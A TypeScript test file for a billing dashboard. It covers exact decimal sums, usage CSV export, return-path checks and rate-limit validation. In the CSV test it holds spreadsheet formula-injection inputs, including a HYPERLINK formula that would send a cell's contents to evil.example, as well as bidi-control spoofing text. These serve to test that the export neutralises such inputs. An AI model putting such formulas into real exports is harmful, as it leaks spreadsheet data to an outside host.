// What the dashboard computes in the browser from the API's answers (web/dashboard/src):
// sums and orders of decimal strings are exact, amounts are shown without rounding, usage
// totals are per currency, the CSV export carries the API's values as they came, and an API
// key's rate limits are checked by the API's own rule before they are sent.
import { describe, expect, it } from 'vitest';
import {
  amountProblem,
  compareDecimals,
  exactAmount,
  isApiAmount,
  money,
  plainAmount,
  sumDecimals,
} from '../web/dashboard/src/money.js';
import { landingOrgId, usableReturnPath } from '../web/dashboard/src/landing.js';
import { shownText } from '../web/dashboard/src/shown-text.js';
import {
  limitProblem,
  limitsOf,
  limitsProblem,
  limitsSummary,
  lowersALimit,
  typedLimits,
} from '../web/dashboard/src/pages/request-limits.js';
import { updateApiKeyBody } from '../src/routes/dashboard/api-keys/schema.js';
import type { UsageRow } from '../web/dashboard/src/types.js';
import { cacheNote, daysBetween, summarize, usageCsv } from '../web/dashboard/src/usage-data.js';

describe('dashboard money', () => {
  it('adds decimal strings exactly, where floats would not', () => {
    expect(sumDecimals(['0.100000000000', '0.200000000000'])).toBe('0.300000000000');
    expect(0.1 + 0.2).not.toBe(0.3);
    expect(sumDecimals(['999999999999.999999999999', '0.000000000001'])).toBe(
      '1000000000000.000000000000',
    );
    expect(sumDecimals(['1.5', '0.000000000001', '-0.5'])).toBe('1.000000000001');
    expect(sumDecimals(['-0.000000000002', '0.000000000001'])).toBe('-0.000000000001');
    expect(sumDecimals([])).toBe('0');
    expect(() => sumDecimals(['1e3'])).toThrow('not a decimal amount');
  });

  it('orders amounts exactly, whatever their number of digits', () => {
    expect(compareDecimals('0.000000000002', '0.0000000000019')).toBe(1);
    expect(compareDecimals('10.0', '9.999999999999')).toBe(1);
    expect(compareDecimals('1.10', '1.1')).toBe(0);
    expect(compareDecimals('-1', '0.000000000001')).toBe(-1);
  });

  it('shows amounts unrounded: zeros past the cents dropped, thousands grouped', () => {
    expect(exactAmount('0.000150000000')).toBe('0.00015');
    expect(exactAmount('1234567.500000000000')).toBe('1,234,567.50');
    expect(exactAmount('5.000000000001')).toBe('5.000000000001');
    expect(exactAmount('0')).toBe('0.00');
    expect(exactAmount('-12.3')).toBe('-12.30');
    expect(exactAmount('not money')).toBe('not money');
    expect(money('5.250000000000', 'EUR')).toBe('5.25 EUR');
  });

  it('gives an amount back to a form field as money: cents always, no zeros past them it does not need, no separators', () => {
    expect(plainAmount('5.000000000000')).toBe('5.00');
    expect(plainAmount('2.500000000000')).toBe('2.50');
    expect(plainAmount('10.000000000000')).toBe('10.00');
    expect(plainAmount('0.000150000000')).toBe('0.00015');
    expect(plainAmount('1234567.000000000001')).toBe('1234567.000000000001');
    expect(plainAmount('0.000000000000')).toBe('0.00');
    expect(isApiAmount('25.500000000000')).toBe(true);
    expect(isApiAmount('25.5')).toBe(false);
    expect(isApiAmount(25.5)).toBe(false);
  });

  it('says what is wrong with a typed amount before it is sent', () => {
    expect(amountProblem('25.5')).toBeNull();
    expect(amountProblem(' 12.000000000001 ')).toBeNull();
    expect(amountProblem('abc')).toContain('as digits');
    expect(amountProblem('1,000')).toContain('no thousands separators');
    expect(amountProblem('1e3')).toContain('as digits');
    expect(amountProblem('$5')).toContain('as digits');
    expect(amountProblem('.5')).toContain('as digits');
    expect(amountProblem('-5')).toBe('Enter an amount that is not negative.');
    expect(amountProblem('1.0000000000001')).toBe(
      'Enter at most 12 digits after the decimal point.',
    );
    expect(amountProblem('')).toBe('Enter an amount.');
    expect(amountProblem('0')).toBe('Enter an amount above 0.');
    expect(amountProblem('0.00')).toBe('Enter an amount above 0.');
    expect(amountProblem('0', { zero: true })).toBeNull();
  });

  it('totals usage per currency, the most spent first', () => {
    const row = (key: string, currency: string, cost: string): UsageRow => ({
      key,
      currency,
      requests: 2,
      input_tokens: 3,
      output_tokens: 4,
      total_tokens: 7,
      cache_write_tokens: 1,
      cache_write_1h_tokens: 1,
      cache_read_tokens: 2,
      web_search_requests: 5,
      cost,
      wallet_cost: '0.000000000001',
    });
    expect(
      summarize([
        row('a', 'USD', '0.100000000000'),
        row('b', 'EUR', '5.000000000000'),
        row('c', 'USD', '0.200000000000'),
      ]),
    ).toEqual({
      requests: 6,
      inputTokens: 9,
      outputTokens: 12,
      cacheWriteTokens: 3,
      cacheWrite1hTokens: 3,
      cacheReadTokens: 6,
      webSearchRequests: 15,
      costs: [
        { currency: 'EUR', cost: '5.000000000000', walletCost: '0.000000000001' },
        { currency: 'USD', cost: '0.300000000000', walletCost: '0.000000000002' },
      ],
    });
  });

  it('exports CSV with exact money and quoted labels, and lists every day of a range', () => {
    const rows: UsageRow[] = [
      {
        key: 'conn_1',
        currency: 'USD',
        requests: 1,
        input_tokens: 10,
        output_tokens: 5,
        total_tokens: 15,
        cache_write_tokens: 4,
        cache_write_1h_tokens: 1,
        cache_read_tokens: 3,
        web_search_requests: 2,
        cost: '0.000001230000',
        wallet_cost: '0.000000000000',
      },
      {
        key: null,
        currency: 'USD',
        requests: 2,
        input_tokens: 0,
        output_tokens: 0,
        total_tokens: 0,
        cache_write_tokens: 0,
        cache_write_1h_tokens: 0,
        cache_read_tokens: 0,
        web_search_requests: 0,
        cost: '0.000000000000',
        wallet_cost: '0.000000000000',
      },
    ];
    const label = (key: string | null) => (key ? 'Shop, "EU" › Web' : '(none)');
    expect(usageCsv('connection', rows, label).split('\r\n')).toEqual([
      'connection,label,currency,requests,input_tokens,output_tokens,total_tokens,' +
        'cache_write_tokens,cache_write_1h_tokens,cache_read_tokens,web_search_requests,cost,wallet_cost',
      'conn_1,"Shop, ""EU"" › Web",USD,1,10,5,15,4,1,3,2,0.000001230000,0.000000000000',
      ',(none),USD,2,0,0,0,0,0,0,0,0.000000000000,0.000000000000',
      '',
    ]);
    expect(cacheNote({ read: 1234, write: 0, write1h: 0 })).toEqual([['1,234 cache read']]);
    expect(cacheNote({ read: 0, write: 5, write1h: 0 })).toEqual([['5 cache write']]);
    expect(cacheNote({ read: 2, write: 5, write1h: 5 })).toEqual([
      ['2 cache read'],
      ['5 cache write', '(5 for 1 h)'],
    ]);
    expect(cacheNote({ read: 0, write: 0, write1h: 0 })).toEqual([]);
    expect(daysBetween('2024-02-27', '2024-03-02')).toEqual([
      '2024-02-27',
      '2024-02-28',
      '2024-02-29',
      '2024-03-01',
    ]);
    expect(daysBetween('2024-03-02', '2024-03-02')).toEqual([]);
  });

  it('exports labels a spreadsheet would run as formulas as text (a product user names itself)', () => {
    // Display names and external ids come from the app's own end users; a label starting with
    // = + - @ (or a tab or carriage return) is a formula to a spreadsheet opening the file.
    const row: UsageRow = {
      key: 'pu_1',
      currency: 'USD',
      requests: 1,
      input_tokens: 1,
      output_tokens: 1,
      total_tokens: 2,
      cache_write_tokens: 0,
      cache_write_1h_tokens: 0,
      cache_read_tokens: 0,
      web_search_requests: 0,
      cost: '0.000001000000',
      wallet_cost: '0.000001000000',
    };
    const cells = (label: string) =>
      usageCsv('product_user', [row], () => label)
        .split('\r\n')[1]!
        .replace(/,USD,.*$/, '');
    expect(cells('=HYPERLINK("https://evil.example/?"&A1,"x") (u1)')).toBe(
      `pu_1,"'=HYPERLINK(""https://evil.example/?""&A1,""x"") (u1)"`,
    );
    expect(cells('+1+1')).toBe(`pu_1,'+1+1`);
    expect(cells('-2+3')).toBe(`pu_1,'-2+3`);
    expect(cells('@SUM(A1)')).toBe(`pu_1,'@SUM(A1)`);
    expect(cells('\t=1')).toBe(`pu_1,'\t=1`);
    expect(cells('Ada (u=1)')).toBe('pu_1,Ada (u=1)');
    expect(cells('-42')).toBe('pu_1,-42'); // a number stays one
  });

  it('leaves out what an older API does not give: empty CSV cells, no cache or search totals', () => {
    // A page of this version served against an API from before the cache parts and the web
    // searches (a rolling deploy): the rows lack the four fields.
    const older: UsageRow = {
      key: 'vendor_a/claude-haiku-4-5',
      currency: 'USD',
      requests: 3,
      input_tokens: 10,
      output_tokens: 5,
      total_tokens: 15,
      cost: '0.000001230000',
      wallet_cost: '0.000000000000',
    };
    expect(usageCsv('model', [older], (key) => key ?? '').split('\r\n')).toEqual([
      'model,label,currency,requests,input_tokens,output_tokens,total_tokens,' +
        'cache_write_tokens,cache_write_1h_tokens,cache_read_tokens,web_search_requests,cost,wallet_cost',
      'vendor_a/claude-haiku-4-5,vendor_a/claude-haiku-4-5,USD,3,10,5,15,,,,,0.000001230000,0.000000000000',
      '',
    ]);
    expect(summarize([older, older])).toMatchObject({
      requests: 6,
      cacheWriteTokens: 0,
      cacheWrite1hTokens: 0,
      cacheReadTokens: 0,
      webSearchRequests: 0,
    });
  });
});

describe('where a signed-in user lands', () => {
  const session = {
    user: { personal_org_id: 'org_personal' },
    orgs: [{ id: 'org_seeded' }, { id: 'org_personal' }, { id: 'org_other' }],
  };

  it('opens the organization last used in this browser, else the first that is not the personal one', () => {
    expect(landingOrgId(session, 'org_other')).toBe('org_other');
    expect(landingOrgId(session, 'org_personal')).toBe('org_personal');
    expect(landingOrgId(session, null)).toBe('org_seeded');
    // one they are no longer a member of counts as none
    expect(landingOrgId(session, 'org_gone')).toBe('org_seeded');
    const personalFirst = { ...session, orgs: [{ id: 'org_personal' }, { id: 'org_seeded' }] };
    expect(landingOrgId(personalFirst, null)).toBe('org_seeded');
    const alone = { ...session, orgs: [{ id: 'org_personal' }] };
    expect(landingOrgId(alone, null)).toBe('org_personal');
    expect(landingOrgId({ ...session, orgs: [] }, null)).toBeNull();
  });

  it('follows the sign-in page’s way back only into an organization of the user signing in', () => {
    expect(usableReturnPath('/dashboard/orgs/org_other/usage?group=model', session)).toBe(
      '/dashboard/orgs/org_other/usage?group=model',
    );
    expect(usableReturnPath('/dashboard/orgs/org_someone_elses/caps', session)).toBeNull();
    expect(usableReturnPath('/dashboard/models', session)).toBe('/dashboard/models');
    expect(usableReturnPath('/oauth/authorize?client_id=x', session)).toBe(
      '/oauth/authorize?client_id=x',
    );
    expect(usableReturnPath(null, session)).toBeNull();
  });
});

describe('an API key’s rate limits as typed', () => {
  const label = 'Requests per minute';
  const limits = (rpm: number | null, userRpm: number | null) => ({
    requests_per_minute: rpm,
    product_user_requests_per_minute: userRpm,
  });

  it('passes exactly what the API takes: a whole number from 1 to 1,000,000, or empty for none', () => {
    const typed = [
      '',
      ' ',
      '1',
      ' 60 ',
      '007',
      '999999',
      '1000000',
      '1000001',
      '0',
      '00',
      '-1',
      '60.5',
      '60.0',
      '1e3',
      '1,000',
      '1 000',
      '0x10',
      'sixty',
      '٣',
    ];
    for (const text of typed) {
      const passes = limitProblem(text, label) === null;
      const sent = limitsOf({ perKey: text, perUser: '' }).requests_per_minute;
      const api = updateApiKeyBody.safeParse({ requests_per_minute: sent }).success;
      // what the form passes, the API takes as sent; what it stops never leaves the page
      if (passes) expect([text, api]).toEqual([text, true]);
    }
    expect(limitsOf({ perKey: ' 60 ', perUser: '' })).toEqual(limits(60, null));
    expect(limitsOf({ perKey: '007', perUser: '1000000' })).toEqual(limits(7, 1_000_000));
    expect(limitsOf({ perKey: '', perUser: ' ' })).toEqual(limits(null, null));
    // the API refuses these numbers: so does the form, saying why
    for (const [text, sent] of [
      ['0', 0],
      ['1000001', 1_000_001],
    ] as const) {
      expect(updateApiKeyBody.safeParse({ requests_per_minute: sent }).success).toBe(false);
      expect(limitProblem(text, label)).not.toBeNull();
    }
    expect(limitProblem('0', label)).toBe(
      'Requests per minute: enter at least 1, or leave it empty for no limit.',
    );
    expect(limitProblem('1000001', label)).toBe(
      `Requests per minute: enter at most ${(1_000_000).toLocaleString()}.`,
    );
    // written otherwise than with digits (what JSON or a locale would read differently)
    for (const text of ['60.5', '60.0', '1e3', '1,000', '1 000', '0x10', '-1', 'sixty', '٣']) {
      expect(limitProblem(text, label)).toBe(
        'Requests per minute: enter a whole number with digits only, like 60 (no separators, spaces or decimals), or leave it empty for no limit.',
      );
    }
    // the first field's problem first, each named by its field
    expect(limitsProblem({ perKey: '0', perUser: 'x' })).toMatch(/^Requests per minute: /);
    expect(limitsProblem({ perKey: '5', perUser: '0' })).toMatch(
      /^Per product user, requests per minute: enter at least 1/,
    );
    expect(limitsProblem({ perKey: '', perUser: '' })).toBeNull();
  });

  it('says a key’s limits in a few words, and starts a form with them', () => {
    expect(limitsSummary(limits(null, null))).toEqual(['unlimited']);
    expect(limitsSummary(limits(60, null))).toEqual(['60/min']);
    expect(limitsSummary(limits(60, 10))).toEqual(['60/min', '10/min per user']);
    expect(limitsSummary(limits(null, 10))).toEqual(['unlimited', '10/min per user']);
    expect(typedLimits(limits(60, null))).toEqual({ perKey: '60', perUser: '' });
  });

  it('asks first only when a change could refuse requests that pass now', () => {
    // set where there was none, or lowered: asks
    expect(lowersALimit(limits(null, null), limits(60, null))).toBe(true);
    expect(lowersALimit(limits(60, 10), limits(59, 10))).toBe(true);
    expect(lowersALimit(limits(60, null), limits(100, 5))).toBe(true);
    // raised, cleared or unchanged: does not
    expect(lowersALimit(limits(60, 10), limits(61, 10))).toBe(false);
    expect(lowersALimit(limits(60, 10), limits(null, null))).toBe(false);
    expect(lowersALimit(limits(60, 10), limits(60, 10))).toBe(false);
  });
});

describe('text the organization does not choose', () => {
  it('shows each bidirectional control as a mark, and leaves other text as it is', () => {
    expect(shownText('bidi\u202eevil')).toBe('bidi‹U+202E›evil');
    expect(shownText('\u2066a\u2069\u061c\u200f')).toBe('‹U+2066›a‹U+2069›‹U+061C›‹U+200F›');
    // right-to-left letters are text like any other
    expect(shownText('שלום user_1 <b>')).toBe('שלום user_1 <b>');
  });
});
